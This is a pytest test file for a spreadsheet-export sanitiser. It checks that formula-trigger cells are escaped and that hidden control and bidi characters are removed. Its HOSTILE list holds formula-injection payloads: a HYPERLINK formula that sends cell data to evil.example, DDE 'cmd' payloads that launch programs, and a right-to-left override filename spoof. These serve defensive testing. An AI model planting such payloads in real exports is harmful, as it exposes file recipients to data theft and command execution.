"""Exports are formula-safe: no cell a spreadsheet program would run as a formula."""

import csv
import datetime as dt
import io
from decimal import Decimal

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook

from kyodo.spreadsheets import FORMULA_TRIGGERS, clean_text, safe_cell, safe_row

HOSTILE = [
    "=1+1",
    '=HYPERLINK("http://evil.example/?"&A1,"詳細")',
    "+81-191-21-0000",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=cmd|' /C calc'!A0",
    "\r=1+1",
    "=cmd|' /C notepad'!'A1'",
]


@pytest.mark.parametrize("value", HOSTILE)
def test_a_formula_trigger_is_neutralised_with_an_apostrophe(value):
    assert safe_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["山目地域協働体", "0191-21-0000", "a=b", " =1", "", "'=already"])
def test_ordinary_text_is_unchanged(value):
    assert safe_cell(value) == value


@pytest.mark.parametrize("value", [-5, 0, 12_000, 1.5, Decimal("-3"), dt.date(2026, 4, 1), None, True])
def test_numbers_dates_and_empty_cells_are_unchanged(value):
    assert safe_cell(value) is value


@given(st.text())
def test_no_text_cell_starts_with_a_formula_trigger(value):
    cell = safe_cell(value)
    assert not cell.startswith(FORMULA_TRIGGERS)
    assert cell.removeprefix("'") == clean_text(value) or cell == clean_text(value)


@pytest.mark.parametrize(("value", "expected"), [
    ("会議\x00費", "会議費"),
    ("\x07\x08\x0b\x0c\x1b\x1f\x7f\x85名簿", "名簿"),
    ("\x00=1+1", "'=1+1"),  # a hidden control character does not hide a formula
    ("評価\u202eSLX.exe", "評価SLX.exe"),  # right-to-left override
    ("\u2066隔離\u2069\u202a\u202b\u202c\u202d", "隔離"),
    ("山\u200b目\u200c\u200d\u200e\u200f\ufeff", "山目"),
    ("\u200b=HYPERLINK(1)", "'=HYPERLINK(1)"),
    ("一行目\n二行目\tタブ", "一行目\n二行目\tタブ"),  # line breaks and tabs inside a cell stay
])
def test_control_bidi_and_zero_width_characters_are_removed(value, expected):
    assert safe_cell(value) == expected


@given(st.text())
def test_every_cleaned_cell_can_be_written_to_xlsx(value):
    workbook = Workbook(write_only=True)
    workbook.create_sheet().append([safe_cell(value)])  # openpyxl raises IllegalCharacterError otherwise
    workbook.save(io.BytesIO())


def test_a_safe_cell_is_stored_as_text_in_xlsx():
    workbook = Workbook()
    workbook.active.append(safe_row(["=1+1", "@SUM(A1)", 3]))
    buffer = io.BytesIO()
    workbook.save(buffer)
    sheet = load_workbook(io.BytesIO(buffer.getvalue())).active
    assert [cell.data_type for cell in sheet[1]] == ["s", "s", "n"]
    assert sheet["A1"].value == "'=1+1"


def test_a_safe_row_round_trips_through_csv():
    buffer = io.StringIO()
    csv.writer(buffer).writerow(safe_row(["-1+2", "地域", 5]))
    assert next(csv.reader(io.StringIO(buffer.getvalue()))) == ["'-1+2", "地域", "5"]
